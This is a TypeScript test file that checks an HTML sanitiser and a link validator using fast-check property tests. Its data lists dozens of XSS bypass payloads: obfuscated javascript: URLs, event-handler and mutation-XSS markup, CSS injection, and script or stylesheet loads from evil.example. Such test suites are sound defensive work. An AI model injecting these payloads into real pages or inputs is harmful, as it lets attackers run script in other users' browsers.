import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isSafeLink, safeHtml } from './safe-html.ts';

/** Everything that a sanitised text may contain; the rest between the elements is text. */
const plain = 'p|b|strong|i|em|u|ul|ol|li|h2|h3|h4|table|thead|tbody|tr|th|td';
const link = 'a href="[^"<>]*" rel="noopener nofollow"';
const picture = 'img src="/media/[^"<>]*" alt="[^"<>]*" /';
const element = new RegExp(`<(?:/?(?:${plain})|br /|/a|${link}|${picture})>`, 'g');
const addresses = /href="([^"]*)"/g;

const decoded = (address: string) => address.replaceAll('&amp;', '&').replaceAll('&quot;', '"');

/** Only allowed elements, each with allowed attributes, and links to safe addresses. */
function expectSafe(given: string): void {
  const made = safeHtml(given);
  expect(made.replace(element, ''), `${given} became ${made}`).not.toMatch(/[<>]/);
  for (const [, address = ''] of made.matchAll(addresses))
    expect(isSafeLink(decoded(address)), made).toBe(true);
  expect(safeHtml(made), 'the second time changes nothing').toBe(made);
}

const run = 'alert(1)';
const schemes = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `\u0001javascript:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `java\u0000script:${run}`,
  `java&#x09;script:${run}`,
  `&#106;avascript:${run}`,
  `&#0000106avascript:${run}`,
  `&#x6A;&#x61;vascript:${run}`,
  `javascript&colon;${run}`,
  `javascript&#58;${run}`,
  `java&NewLine;script:${run}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `blob:https://localhost/x`,
  `filesystem:https://localhost/x`,
  `view-source:javascript:${run}`,
  `feed:javascript:${run}`,
  `http://example.com/`,
  `ftp://example.com/`,
  `file:///etc/passwd`,
  `intent://x#Intent;scheme=https;end`,
  '//evil.example/',
  '/\\evil.example/',
  '\\\\evil.example',
  '/\t/evil.example',
  'https:/\\evil.example',
  'https:javascript:alert(1)',
  'relative',
  '?x=1',
  '',
];

const payloads = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `<script/x>${run}</script>`,
  `<script\u0000>${run}</script>`,
  `<<script>${run}//<</script>`,
  `<script><!--\n${run}\n--></script>`,
  `<img src=x onerror=${run}>`,
  `<img src="/media/x.svg" onerror=${run}>`,
  `<img src="/media/../wps/logout">`,
  `<img src="https://evil.example/x.png">`,
  `<img src="//evil.example/media/x.png">`,
  `<img srcset="https://evil.example/x.png" src="/media/x.png">`,
  `<img/src="/media/x"/onload=${run}>`,
  `<img """><script>${run}</script>">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"/></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  '<math><mtext><table><mglyph><style><!--</style>' +
    `<img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  `<math><a xlink:href="javascript:${run}">x</a></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  `<body onload=${run}>`,
  `<p onclick=${run} onmouseover="${run}">x</p>`,
  `<p style="background:url(javascript:${run})">x</p>`,
  `<p style="width:expression(${run})">x</p>`,
  `<p id=location class=x name=y data-x=1 tabindex=1 autofocus onfocus=${run}>x</p>`,
  `<style>*{background:url(https://evil.example)}</style>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
  `<base href=https://evil.example/>`,
  `<iframe src=javascript:${run}></iframe>`,
  `<iframe srcdoc="<script>${run}</script>">`,
  `<object data=javascript:${run}></object>`,
  `<embed src=javascript:${run}>`,
  `<applet code=x></applet>`,
  `<form action=javascript:${run}><button formaction=javascript:${run}>x</button>` +
    `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>x</details>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
  `<textarea></textarea><script>${run}</script>`,
  `<title></title><script>${run}</script>`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
  `<noembed><p title="</noembed><svg onload=${run}>">`,
  `<plaintext><script>${run}</script>`,
  `<![CDATA[<script>${run}</script>]]>`,
  `<?xml version="1.0"?><script>${run}</script>`,
  `<!--><script>${run}</script>-->`,
  `<!--[if IE]><script>${run}</script><![endif]-->`,
  `<!doctype html><html><head></head><body><script>${run}</script>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${run}`,
  `<a href="https://x.example" onclick=${run} target=_blank ping=https://evil.example>x</a>`,
  `<a href='https://x.example/"onmouseover="${run}'>x</a>`,
  `<a href="https://x.example/&quot; onmouseover=&quot;${run}">x</a>`,
  `<a href="https://x.example"><a href="javascript:${run}">x`,
  `<a href=javascript:${run} href=https://x.example>x</a>`,
  `<table background="javascript:${run}"><td background="javascript:${run}">x`,
  `<ul><li><b><i>never closed`,
  `</p></div></script>closed too often`,
  `<p${'\u0000'}onclick=${run}>x`,
  `<p/onclick=${run}>x`,
  `<p\u000conclick=${run}>x`,
  `< script>${run}</script>`,
  `<custom-element onclick=${run}>x</custom-element>`,
  `<p title="<img src=x onerror=${run}>">x</p>`,
  `${'<b>'.repeat(2000)}deep`,
];

describe('a sanitised text', () => {
  it.each(payloads)('K1 cannot run anything: %s', (payload) => expectSafe(payload));

  it.each(schemes)('K1 K2 cannot link to %j, with any quotes', (address) => {
    for (const link of [
      `<a href="${address}">x</a>`,
      `<a href='${address}'>x</a>`,
      `<a HREF=${address}>x</a>`,
    ]) {
      expectSafe(link);
      expect(safeHtml(link)).not.toMatch(/script:|data:|blob:|http:|ftp:|file:|intent:/i);
    }
    for (const picture of [`<img src="${address}">`, `<img src='${address}'>`])
      expect(safeHtml(picture)).toBe('');
  });

  it('K1 is unchanged when it is sanitised again, for any input', () => {
    const piece = fc.oneof(
      fc.constantFrom(...payloads.slice(0, -1), ...schemes),
      fc.string({ unit: 'binary', maxLength: 20 }),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '&',
        '&lt',
        '&#',
        '</',
        '<!--',
        '-->',
        '<p>',
        '<a href=',
        '<img src=/media/',
      ),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => expectSafe(pieces.join(''))),
      { numRuns: 200 },
    );
  });

  it('K1 keeps allowed formatting', () => {
    const text =
      '<h3>Title</h3><p>One <strong>two</strong><br /><em>three</em> &amp; 5 &lt; 6</p>' +
      '<ul><li>a</li></ul><ol><li>b</li></ol>' +
      '<table><thead><tr><th>c</th></tr></thead><tbody><tr><td>d</td></tr></tbody></table>' +
      '<p><a href="https://example.com/x?a=1&amp;b=2" rel="noopener nofollow">out</a>' +
      '<a href="mailto:help@example.com" rel="noopener nofollow">mail</a>' +
      '<a href="/help#deposit" rel="noopener nofollow">here</a>' +
      '<img src="/media/art/banner/x.svg?v=1" alt="A lantern" /></p>';
    expect(safeHtml(text)).toBe(text);
  });

  it('K1 loses an element and keeps its text, unless the text was never visible', () => {
    expect(safeHtml('<div>a <a href="javascript:x">b</a> <blink>c</blink></div>')).toBe('a b c');
    expect(safeHtml('a<script>b</script><style>c</style><title>d</title>')).toBe('a');
  });

  it('K1 is made in linear time', () => {
    // CPU time: it does not count what else the machine does.
    const started = process.threadCpuUsage();
    for (const piece of ['<', '<a ', '<b>', '&', '<!--', '<a href="', '</'])
      expect(safeHtml(piece.repeat(20_000)).length).toBeLessThan(400_000);
    expect(process.threadCpuUsage(started).user / 1000).toBeLessThan(10_000);
  });
});

it.each([
  'https://example.com',
  'HTTPS://example.com/a?b=c#d',
  'mailto:help@example.com',
  '/help',
  '/help#deposit',
  '/',
])('K2 may link to %s', (address) => expect(isSafeLink(address)).toBe(true));
